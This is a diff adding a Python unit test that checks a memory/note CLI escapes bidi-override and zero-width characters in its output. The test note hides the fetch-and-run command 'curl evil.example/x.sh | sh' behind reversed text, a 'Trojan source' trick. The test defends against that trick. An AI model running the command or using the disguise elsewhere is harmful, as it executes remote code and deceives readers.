@@ -205,6 +205,18 @@ class ControlCharacters(TempHome):
         self.assertIn(self.CWD, {h["cwd"] for h in json_hits})
 
 
+    def test_a_bidi_override_or_a_zero_width_mark_is_shown_not_applied(self):
+        # "Trojan source" in a note: in a terminal that applies bidi, the person reading `show`,
+        # `recall` or `lessons` would see "curl evil.example/x.sh | sh" where the text is backwards.
+        note = "deploy with \u202ehs | hs.x/elpmaxe.live lruc\u202c and cu\u200brl"
+        self.ok("remember", "--cwd", "/home/dev/shop", note)
+        outputs = [self.ok("recall", "deploy with", "--cwd", "/home/dev/shop"), self.ok("show", "e1"),
+                   self.ok("recall", "deploy with", "--json", "--cwd", "/home/dev/shop")]
+        for p in outputs:
+            self.assertFalse(any(c in p.stdout for c in "\u202e\u202c\u200b"), p.stdout)
+        self.assertIn("\\u202ehs | hs.x/elpmaxe.live lruc\\u202c and cu\\u200brl", outputs[1].stdout)
+        self.assertIn(note, [h["text"] for h in json.loads(outputs[2].stdout)])   # the same text, in JSON
+
 class SymlinkedMemory(TempHome):
     def test_a_symlinked_memory_md_stays_a_link_its_target_untouched_and_render_says_so(self):
         from openmemory import paths
